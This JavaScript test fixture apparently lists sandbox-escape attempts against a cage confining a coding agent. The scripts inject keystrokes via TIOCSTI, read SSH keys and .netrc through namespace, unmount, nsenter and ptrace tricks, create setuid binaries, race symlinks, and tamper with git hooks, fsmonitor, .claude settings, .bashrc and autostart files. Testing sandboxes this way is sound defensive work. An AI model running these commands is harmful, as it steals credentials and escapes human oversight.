import { HOME, WORKSPACE } from '../world.mjs'

const secret = (kind, name, script, more = {}) => ({ kind, name, script, goal: 'secret', ...more })
const type = (request) => `python3 -c '
import fcntl,os,ctypes
libc=ctypes.CDLL(None, use_errno=True)
for c in os.environ["T"]+"\\n":
    libc.ioctl(0, ctypes.c_ulong(${request}), ctypes.c_char_p(c.encode()))
'`

export const waysOut = [
  {
    kind: 'the terminal',
    name: 'bytes typed into it (TIOCSTI)',
    script: type('0x5412'),
    goal: 'typed',
    terminal: true,
  },
  {
    kind: 'the terminal',
    name: 'the same with bits that the kernel does not look at',
    script: type('0x100005412'),
    goal: 'typed',
    terminal: true,
  },
  {
    kind: 'the terminal',
    name: 'opened anew',
    script: type('0x5412').replace('ioctl(0', 'ioctl(os.open("/dev/tty", os.O_RDWR)'),
    goal: 'typed',
    terminal: true,
  },
  {
    kind: 'the terminal',
    name: 'ending the group that it belongs to',
    script:
      'python3 -c "import os,signal; signal.signal(15, signal.SIG_IGN); os.kill(0, 15)"; sleep 0.3',
    goal: 'group ended',
    terminal: true,
  },

  secret('namespaces', 'a user namespace', 'unshare -Ur cat ~/.ssh/id_ed25519'),
  secret(
    'namespaces',
    'unmounting the cover',
    'unshare -Urm sh -c "umount -l ~/.ssh; cat ~/.ssh/id_ed25519"',
  ),
  secret(
    'namespaces',
    'unmounting it at once',
    'umount ~/.ssh ~/.netrc 2>/dev/null; cat ~/.ssh/id_ed25519',
  ),
  secret(
    'namespaces',
    'a mount over it',
    'unshare -Urm sh -c "mount --rbind / /mnt; cat /mnt/home/ranger/.ssh/id_ed25519"',
  ),
  secret(
    'namespaces',
    'another cage inside',
    'bwrap --ro-bind / / --dev /dev --proc /proc cat ~/.ssh/id_ed25519',
  ),
  secret(
    'namespaces',
    'by clone',
    `python3 -c '
import ctypes,os
libc=ctypes.CDLL(None)
if libc.syscall(56, 0x10000000|17, 0,0,0,0)==0 or True: print(open("${HOME}/.netrc").read())'`,
  ),
  secret(
    'namespaces',
    'the namespace of another process',
    'nsenter -t 1 -U -m cat ~/.ssh/id_ed25519 2>/dev/null || cat ~/.ssh/id_ed25519',
  ),

  {
    kind: 'rights for later',
    name: 'a program with the rights of its owner, by chmod',
    script: 'cp /usr/bin/id taken; chmod 4755 taken',
    goal: { setuid: `${WORKSPACE}/taken` },
  },
  {
    kind: 'rights for later',
    name: 'the same by another call',
    script: `cp /usr/bin/id taken; python3 -c 'import os; f=os.open("taken", os.O_RDONLY); os.fchmod(f, 0o4755)'`,
    goal: { setuid: `${WORKSPACE}/taken` },
  },
  {
    kind: 'rights for later',
    name: 'the same when it is made',
    script: `python3 -c 'import os; os.umask(0); os.open("taken", os.O_CREAT|os.O_WRONLY, 0o4755)'`,
    goal: { setuid: `${WORKSPACE}/taken` },
  },
  {
    kind: 'changed modes',
    name: 'of a trusted file',
    script: 'chmod 777 ~/.bashrc',
    goal: { mode: [`${HOME}/.bashrc`, 0o777] },
  },
  {
    kind: 'changed modes',
    name: 'of a covered secret',
    script: 'chmod 777 ~/.netrc',
    goal: { mode: [`${HOME}/.netrc`, 0o777] },
  },
  {
    kind: 'changed modes',
    name: 'the time of a trusted file',
    script: 'touch -d 2001-01-01 ~/.bashrc',
    goal: { old: `${HOME}/.bashrc` },
  },

  ...['dist/launcher.js', 'bin/aegish.js', 'node_modules/koffi/index.js'].map((name) => ({
    kind: 'the launcher',
    name: `writing ${name}`,
    script: `echo "// $T" >> "$AEGISH/${name}"`,
    goal: { holds: `/opt/aegish/${name}` },
  })),
  {
    kind: 'the launcher',
    name: 'in a workspace that it is installed in',
    script:
      'echo "// $T" >> node_modules/koffi/index.js || { mv node_modules nm; mkdir -p node_modules/koffi; echo "// $T" > node_modules/koffi/index.js; }',
    goal: { holds: '/opt/aegish/node_modules/koffi/index.js' },
    workspace: '/opt/aegish',
    allow: ['--allow-write', '/opt/aegish'],
  },
  {
    kind: 'the launcher',
    name: 'the file that covers secrets',
    script: `f=$(sed -n 's/.* \\(\\/aegish-cage[^ ]*\\|\\/tmp\\/aegish-cage[^ ]*nothing\\) .*/\\1/p' /proc/self/mountinfo | head -1); echo "$T" > "\${f:-/tmp/left/cover}"; echo "$T" > ~/.netrc; true`,
    goal: { holds: `${HOME}/.netrc` },
  },
  // By PTRACE_SEIZE: PTRACE_ATTACH would stop the first process of the throw-away root for good.
  secret(
    'the launcher',
    'tracing the first process',
    `python3 -c '
import ctypes,os
libc=ctypes.CDLL(None)
libc.ptrace(0x4206, 1, 0, 0)
print(open("/proc/1/root${HOME}/.netrc").read() if os.path.exists("/proc/1/root/etc") else open("${HOME}/.netrc").read())'`,
  ),

  {
    kind: 'links and races',
    name: 'a link to a trusted file',
    script: 'ln -s ~/.bashrc innocent; echo "$T" >> innocent',
    goal: { holds: `${HOME}/.bashrc` },
  },
  secret('links and races', 'a second name of a secret', 'ln ~/.netrc mine && cat mine'),
  {
    kind: 'links and races',
    name: 'a link that is swapped all the time',
    script: `mkdir -p a; (for i in $(seq 300); do ln -sfn /home/ranger b; ln -sfn $PWD/a b; done) & for i in $(seq 300); do echo "$T" >> b/.profile; done 2>/dev/null; wait; ln -sfn /home/ranger b; echo "$T" >> b/.profile`,
    goal: { holds: `${HOME}/.profile` },
  },
  {
    kind: 'links and races',
    name: 'another .git in the place of the first',
    script:
      'mv .git old && cp -r old .git && printf "[core]\\n\\tfsmonitor = %s\\n" "$T" >> .git/config',
    goal: { holds: `${WORKSPACE}/.git/config` },
  },
  {
    kind: 'links and races',
    name: 'another folder of settings in the place of the first',
    script: 'mv .claude old && mkdir .claude && echo "$T" > .claude/settings.json',
    goal: { holds: `${WORKSPACE}/.claude/settings.json` },
  },
  {
    kind: 'links and races',
    name: 'exchanging two folders',
    script: `mkdir -p evil/hooks; echo "$T" > evil/hooks/pre-commit; python3 -c '
import ctypes; ctypes.CDLL(None).renameat2(-100, b".git/hooks", -100, b"evil/hooks", 2)'`,
    goal: { holds: `${WORKSPACE}/.git/hooks/pre-commit` },
  },
  {
    kind: 'links and races',
    name: 'a repository elsewhere, named for the next cage',
    prepared: `mkdir -p sub; printf 'gitdir: ${HOME}/.config\\n' > sub/.git; ln -s ${HOME} sub/link`,
    script:
      'echo "$T" > ~/.config/autostart/a.desktop; echo "$T" > sub/link/.config/autostart/a.desktop',
    goal: { holds: `${HOME}/.config/autostart/a.desktop` },
  },
  secret('links and races', 'a link prepared for the next cage', 'cat open/id_ed25519', {
    prepared: `ln -s ${HOME}/.ssh open`,
  }),
]
